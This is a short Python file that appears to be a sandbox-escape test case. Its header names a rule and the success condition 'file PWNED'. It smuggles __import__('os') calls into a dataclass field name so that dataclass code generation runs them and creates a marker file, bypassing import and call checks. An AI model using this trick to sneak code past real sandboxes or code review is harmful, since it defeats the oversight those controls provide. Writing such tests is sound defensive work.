# rule: unlisted-import
# class: call_free_exec
# success: file PWNED
from dataclasses import dataclass, fields


@dataclass
class Pose:
    """A pose."""

    yaw: int = 0


class Rename:
    """Gives things another name."""

    def act(self) -> None:
        self.name = "yaw or __import__('os').close(__import__('os').open('PWNED', 0o101))"


def code_in_a_listed_field(times: int = 2) -> int:
    """Do one thing.

    Args:
        times: How often, between 1 and 10.

    Returns:
        What came of it.
    """
    for one in fields(Pose):
        Rename.act(one)

    @dataclass(init=False, eq=False)
    class Named(Pose):
        """A pose with a name."""

        label: str = "here"

    return len(repr(Named()))
